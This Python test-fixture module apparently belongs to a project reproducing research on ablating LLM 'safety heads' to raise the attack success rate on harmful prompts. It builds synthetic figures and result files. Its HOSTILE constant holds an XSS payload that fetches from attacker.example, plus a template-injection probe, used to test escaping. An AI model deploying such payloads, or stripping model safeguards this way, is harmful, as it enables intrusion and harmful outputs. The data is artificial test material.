"""Outcomes of experiments made by hand: every kind of figure, with ordinary and with extreme values."""

from __future__ import annotations

import json
import math
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np

from safetyheads.experiments.outcome import Column, Figure, Measured, Outcome, Row, Table, point
from safetyheads.experiments.run import listed
from safetyheads.experiments.settings import ReproductionConfig
from safetyheads.runs.directory import SCHEMA_VERSION, RunDirectory
from safetyheads.stats.intervals import Rate
from safetyheads.stats.testing import paired_difference

HOSTILE = '<script>fetch("https://attacker.example")</script><img src=x onerror=alert(1)> {{ 7*7 }}'
N = 24
MODEL = "demo:aligned_wrapped"
DATASETS = ("damage", "theft", "fraud")
SECONDS = {"fig2": 58.3, "fig11": 131.0, "table2": 12.25}
REASON = "demo:aligned_a on theft: nothing ablated, 20 of 24 answers comply already (ASR 0.83)."
_SIZES = "heads ablated in each prompt"


def at(count: int, n: int = N, **where: Any) -> dict[str, Any]:
    """A point: a rate with its interval; n = 0 has neither."""
    return point(Rate(count, n), **where)


def _said(n: int) -> str:
    return f"Intervals: Wilson, 95 %, over the prompts. n = {n} prompts."


def fig2() -> Outcome:
    """Bars in four panels, one of them without anything scored."""
    counts = {"vanilla": 0, "UA": 13, "SC": 15}
    points = [
        at(counts[series] - 2 * (sampling == "top-5") * (counts[series] > 0), x=dataset, series=series, panel=panel)
        for template in ("direct", "query_answer")
        for sampling in ("greedy", "top-5")
        for panel in (f"template {template}, {sampling}",)
        for dataset in DATASETS
        for series in counts
    ]
    points[-1] = at(0, 0, x="fraud", series="SC", panel=points[-1]["panel"])
    columns = (Column("panel", "template, sampling"), Column("x", "dataset"), Column("series", "ablation"))
    rows = [{**row, "asr": Measured(row["y"], row["n"], row["low"], row["high"])} for row in points]
    asked = {"model": MODEL, "dataset": "damage", "asked": "template direct", "n_search": 16, "n_test": N}
    return Outcome(
        "fig2",
        "Query-level ASR, each prompt without its own top head",
        "How many harmful prompts does the model answer once each goes without its own top head?",
        (MODEL,),
        (Table(MODEL, "95 % Wilson intervals.", (*columns, Column("asr", "ASR", "rate")), tuple(rows)),),
        (Figure("bars", MODEL, _said(N), "dataset", "ASR", tuple(points)),),
        caption="Heads are each prompt's own, by Ships.",
        headline=[
            {"model": MODEL, "label": f"ASR, {series}", "value": Measured.of(Rate(count, N)), "kind": "rate"}
            for series, count in counts.items()
        ],
        settings={"epsilon": 1e-05, "judge": "paper"},
        asked=[{**asked, "asr": Measured.of(Rate(0, N)), "kept": None}],
    )


def fig11() -> Outcome:
    """Lines in twelve panels, and eleven series in one."""
    panels = [f"template number {number}, {sampling}" for number in range(6) for sampling in ("greedy", "top-5")]
    points = [
        at(min(N, k * (2 + number)), x=k, series=series, panel=panel)
        for panel in panels
        for number, series in enumerate(DATASETS)
        for k in range(11)
    ]
    many = [
        at(min(N, k + number), x=k, series=f"method number {number}", panel="") for number in range(11) for k in (0, 5)
    ]
    return Outcome(
        "fig11",
        "Query-level ASR by number of heads, undifferentiated attention",
        "How does the ASR grow as each prompt goes without its own 1 to 10 top heads?",
        (MODEL,),
        figures=(
            Figure("lines", MODEL, _said(N), _SIZES, "ASR", tuple(points)),
            Figure("lines", "Eleven series", _said(N), _SIZES, "ASR", tuple(many)),
            Figure("lines", "One point", _said(1), "heads", "ASR", (at(1, 1, x=3, series="UA", panel=""),)),
        ),
        notes=("Not evidence about the paper: refusals were planted in 1-3.",),
    )


def fig4b() -> Outcome:
    """Maps of 32 x 32 heads, and 1,024 of them against a score."""
    rng = np.random.default_rng(0)
    heads, scatter = [], []
    for dataset in DATASETS:
        for layer, head in np.ndindex(32, 32):
            planted = (layer, head) in ((2, 26), (3, 1))
            freed = int(rng.binomial(N, 0.02)) + 20 * planted
            heads.append(at(min(freed, N), layer=layer, head=head, panel=dataset, marked=freed >= 20))
            score = float(rng.lognormal(-6, 2)) * (50 if freed >= 20 else 1)
            if dataset == "damage":
                scatter.append(at(min(freed, N), x=score, label=f"{layer}-{head}", panel="", series="all heads"))
    heads[5] |= {"y": None, "low": None, "high": None, "n": 0}
    small = [
        {"layer": layer, "head": head, "y": (layer - head) / 40, "marked": (layer, head) == (3, 0), "panel": ""}
        for layer, head in np.ndindex(4, 8)
    ]
    value = "change of the score, nats"
    return Outcome(
        "fig4b",
        "ASR of every head alone",
        "How many of all heads matter, and does a score know which (Fig 4b)?",
        ("meta-llama/Llama-2-7b-chat-hf",),
        figures=(
            Figure("heads", "Llama-2-7b-chat", _said(N), "head", "layer", tuple(heads), value="ASR"),
            Figure("scatter", "Mean Ships", _said(N), "mean Ships, radians", "ASR", tuple(scatter), logarithmic=True),
            Figure("heads", "Change", _said(N), "head", "layer", tuple(small), value=value, share=False),
        ),
    )


def transfer() -> Outcome:
    """A signed matrix of changes, in two panels, and one of counts with ten columns."""
    points: list[Row] = []
    for panel in ("found by UA, ablated by UA", "found by SC, ablated by UA"):
        for number, source in enumerate(DATASETS):
            for tested in DATASETS:
                freed = 20 if source == tested else 6 * number
                change = paired_difference([False] * N, [i < freed for i in range(N)])
                if (source, tested) == ("damage", "fraud"):
                    change = paired_difference([True] * N, [i > 3 for i in range(N)])
                value, (low, high) = change.change, change.interval
                where = {"x": tested, "y": source, "panel": panel, "n": N}
                text = f"{value:+.2f} [{low:+.2f}, {high:+.2f}]"
                points.append({**where, "text": text, "value": value, "low": low, "high": high})
    points.append({"x": "fraud", "y": "random heads", "panel": points[-1]["panel"], "value": None, "n": 0})
    names = [f"{dataset}, {short}" for dataset in (*DATASETS, "advbench", "jailbreakbench") for short in ("UA", "SC")]
    shared = [
        {"x": x, "y": y, "value": 10 - abs(i - j), "text": str(10 - abs(i - j)), "low": None, "high": None}
        for i, x in enumerate(names)
        for j, y in enumerate(names)
    ]
    return Outcome(
        "transfer",
        "Search set x test set",
        "Do heads that were found on one dataset, or under one ablation, serve another?",
        (MODEL,),
        figures=(
            Figure("matrix", MODEL, _said(N), "tested on", "found on", tuple(points), value="change of the ASR"),
            Figure("matrix", "Ten by ten", "n = 10.", "one", "other", tuple(shared), value="heads shared, of 10"),
        ),
    )


def fig6b() -> Outcome:
    """Bars with long names and eight series, and changes below 0."""
    tasks = ("boolq", "rte", "winogrande", "arc_challenge", "openbookqa", "organism", "mean of all the tasks")
    methods = ("vanilla", "UA, 1 head", "UA, 3 heads", "mean, 1 head", "mean, 3 heads", "Wanda 50 %", "SparseGPT 50 %")
    points = [
        at(70 - 3 * i - 2 * j, 100, x=task, series=method, panel="")
        for i, task in enumerate(tasks)
        for j, method in enumerate(methods)
    ]
    lost = [
        {"x": method, "y": -0.08 * j, "low": -0.08 * j - 0.07, "high": -0.08 * j + 0.06, "n": 100}
        | {"series": "", "panel": ""}
        for j, method in enumerate(methods)
    ]
    y = "change of the mean accuracy, paired over samples of all five zero-shot tasks"
    return Outcome(
        "fig6b",
        "Utility after ablation",
        "What do zero-shot tasks lose as 1 to n heads are ablated, beside pruning (Fig 6b)?",
        (MODEL,),
        figures=(
            Figure("bars", MODEL, _said(100), "task", "accuracy", tuple(points)),
            Figure("bars", "Change of the mean", _said(100), "method", y, tuple(lost), share=False),
        ),
    )


def fig7() -> Outcome:
    """Attention of 14 tokens in six panels, and of 40 in one."""
    tokens = ["<s>", "how", "do", "i", "smash", "a", "lamp", "?", "\n", "Ġans", "wer", ":", "", "internationalisation"]
    panels = ("unablated", "UA on query, 1e-05", "UA on key, 1e-05", "SC, 1e-05", "UA on query, 0.1", "mean")
    points = [row for number, panel in enumerate(panels) for row in _attention(tokens, panel, sharp=3.0 / (1 + number))]
    long = tuple(_attention([f"tok{number}" for number in range(40)], "", 1.0))
    about = "One prompt of 40 tokens."
    return Outcome(
        "fig7",
        "Attention maps of an ablated head",
        "What do undifferentiated attention and scaling contribution make of a head's attention?",
        (MODEL,),
        figures=(
            Figure("attention", "Head 1-3", "One prompt.", "key", "query", tuple(points), value="attention"),
            Figure("attention", "A long prompt", about, "key", "query", long, value="attention"),
        ),
    )


def _attention(tokens: Sequence[str], panel: str, sharp: float) -> Iterable[Row]:
    for query in range(len(tokens)):
        weights = [math.exp(sharp * math.cos(3 * query + 5 * key)) for key in range(query + 1)]
        for key, weight in enumerate(weights):
            names = {"query_token": tokens[query], "key_token": tokens[key]}
            yield {"query": query, "key": key, **names, "value": weight / sum(weights), "panel": panel}


def fig13() -> Outcome:
    """Curves over a logarithmic axis that has 0 on it, and a density without upper end."""
    scores = [0.0, *(10 ** (-6 + 7 * step / 40) for step in range(41))]
    cdf = [
        {"x": x, "y": (number / 41) ** (1 + curve / 2), "series": dataset, "panel": panel}
        for panel in ("Ships, UA", "Ships, SC")
        for curve, dataset in enumerate(DATASETS)
        for number, x in enumerate(scores)
    ]
    kde = [
        {"x": -3 + step / 10, "y": 3.9 * math.exp(-((-3 + step / 10 + curve) ** 2)), "series": dataset, "panel": ""}
        for curve, dataset in enumerate(DATASETS[:2])
        for step in range(61)
    ]
    return Outcome(
        "fig13",
        "Distribution of the scores",
        "How long is the tail: how much of all influence do the first heads have (Fig 13)?",
        (MODEL,),
        figures=(
            Figure("curves", "CDF", "n = 32 heads.", "score, radians", "share of heads", tuple(cdf), logarithmic=True),
            Figure("curves", "KDE", "n = 32 heads.", "log10 of the score", "density", tuple(kde), share=False),
        ),
    )


def not_meaningful() -> Outcome:
    """Nothing but a reason."""
    question = "How safe does in-context alignment alone make a base model (Fig 15)?"
    reasons = (REASON, REASON.replace("theft", "fraud"))
    return Outcome("fig15", "URIAL on base models", question, ("demo:aligned_a",), not_meaningful=reasons)


def partly_meaningful() -> Outcome:
    """One dataset left out, the others shown."""
    points = [at(count, x=dataset, series="vanilla", panel="") for dataset, count in (("damage", 1), ("fraud", 2))]
    return Outcome(
        "fig17",
        "Official chat template with a system prompt",
        "Does the ablation work under the template that the model was aligned with (Fig 17)?",
        ("demo:aligned_a",),
        figures=(Figure("bars", "demo:aligned_a", _said(N), "dataset", "ASR", tuple(points)),),
        not_meaningful=(REASON,),
    )


def table1() -> Outcome:
    """Named points with intervals over shares of parameters, and a table with quoted numbers."""
    methods = ("Sahara", "random heads", "norm", "RDSHA", "refusal direction", "DLA", "ActSVD", "Wanda", "SparseGPT")
    points, rows = [], []
    for number, method in enumerate(methods):
        for strength in range(3):
            share, count = 10 ** (-4 + 0.4 * number + 0.3 * strength), min(N, 2 * number + 4 * strength)
            points.append(at(count, x=share, series=method, panel="", label=f"{method} {strength + 1}"))
        row = {"method": method, "parameters": int(share * 6.7e9), "share": 100 * share}
        row |= {"asr": Measured.of(Rate(count, N)), "change": Measured(0.25, N, 0.1, 0.4, 0.0004), "p": 0.0312}
        rows.append({**row, "paper": 0.72 if method == "Sahara" else None})
    columns = (
        *(Column("method", "method"), Column("parameters", "parameters", "count")),
        *(Column("share", "share of all, %", "number"), Column("asr", "ASR", "rate")),
        *(Column("change", "change of ASR", "change"), Column("p", "p (Holm)", "p")),
        Column("paper", "ASR in the paper", "rate"),
    )
    figure = Figure("scatter", MODEL, _said(N), "share of parameters touched", "ASR", tuple(points), logarithmic=True)
    return Outcome(
        "table1",
        "Parameters touched against ASR",
        "What does each method touch, what does it gain, and what does it break (Table 1)?",
        (MODEL,),
        (Table(MODEL, "Wilson, 95 %.", columns, tuple(rows)),),
        (figure,),
    )


def table2() -> Outcome:
    """Only a table that was timed."""
    numbers = (("seconds", "seconds", "number"), ("hours", "A100 hours in the paper", "number"))
    columns = (Column("what", "what"), *(Column(*column) for column in numbers))
    rows = [
        {"what": "one score pass", "seconds": Measured(1.73, 5, 1.7, 1.76), "hours": None},
        {"what": "plain full generation, scaled", "seconds": 4100.5, "hours": 850.0},
    ]
    return Outcome(
        "table2",
        "Cost of finding heads",
        "What do our passes, the screening, the exhaustive scan and plain full generation cost here (Table 2)?",
        (MODEL,),
        timed=(Table("Seconds", "Student's 95 % interval over 5 runs.", columns, tuple(rows)),),
    )


def epsilon() -> Outcome:
    """Lines over strengths with 0, and names that try to be markup."""
    strengths = (1.0, 0.5, 0.1, 1e-2, 1e-3, 1e-5, 0.0)
    points = [
        at(min(N, number * (3 + k)), x=strength, series=series, panel=panel)
        for panel in ("damage", HOSTILE)
        for k, series in enumerate(("UA", "SC", HOSTILE, "--paper"))
        for number, strength in enumerate(strengths)
    ]
    columns = (Column("x", HOSTILE), Column("n", "n", "count"))
    return Outcome(
        "epsilon",
        "ASR and scores against epsilon",
        "When is attention uniform enough, from no ablation to the exact limit?",
        (HOSTILE,),
        (Table(HOSTILE, HOSTILE, columns, ({"x": HOSTILE, "n": 1_234_567},)),),
        (
            Figure("lines", HOSTILE, HOSTILE, "epsilon", "--ASR", tuple(points), logarithmic=True),
            Figure("bars", "No points", "None.", "x", "y", ()),
        ),
        notes=(HOSTILE,),
    )


def outcomes() -> list[Outcome]:
    """All, in the catalogue's order."""
    figures = [fig2(), fig11(), fig4b(), transfer(), fig6b(), fig7(), fig13(), not_meaningful(), partly_meaningful()]
    return [*figures, table1(), table2(), epsilon()]


# As files hold them.


def results(made: Sequence[Outcome] | None = None, **config: Any) -> dict[str, Any]:
    """``results.json`` of these, read back."""
    experiments = [outcome.as_dict() for outcome in (outcomes() if made is None else made)]
    value = {"schema_version": SCHEMA_VERSION, "kind": "reproduction", "experiments": experiments, "judge": "paper"}
    value["catalogue"] = listed(ReproductionConfig(**config))
    return dict(json.loads(json.dumps(value)))


def timings(made: Sequence[Outcome] | None = None) -> dict[str, Any]:
    """``timings.json`` of these, read back."""
    every = outcomes() if made is None else made
    timed = {outcome.name: [asdict(table) for table in outcome.timed] for outcome in every if outcome.timed}
    return dict(json.loads(json.dumps({"seconds": SECONDS, "timed": timed})))


def manifest(**changed: Any) -> dict[str, Any]:
    """A manifest with settings, two starts, weights, and what a run remembers."""
    config = asdict(ReproductionConfig()) | {"kind": "reproduction", "versions": {"torch": "2.9.0"}} | changed
    starts = [{"started": f"2026-01-0{day}T03:04:05+00:00", "command": ["safetyheads"]} for day in (1, 2)]
    remembered = {f"plan_{number}": {"groups_per_batch": 8} for number in range(30)}
    remembered |= {f"economy_{number}": {"n_rows": 24} for number in range(30)} | {"tolerance_0": 1e-4, "threads": 1}
    value = {"schema_version": SCHEMA_VERSION, "config": config, "provenance": starts, "weights_demo:aligned_a": "bd8c"}
    return dict(json.loads(json.dumps(value | remembered)))


def finished_run(path: Path, made: Sequence[Outcome] | None = None, config: Mapping[str, Any] | None = None) -> Path:
    """A run directory of these outcomes."""
    settings = {"kind": "reproduction", **asdict(ReproductionConfig()), **(config or {})}
    with RunDirectory.start(path, settings, {"started": "2026-01-02T03:04:05+00:00"}) as run:
        run.write_results(results(made))
        run.write_timings(timings(made))
    return path
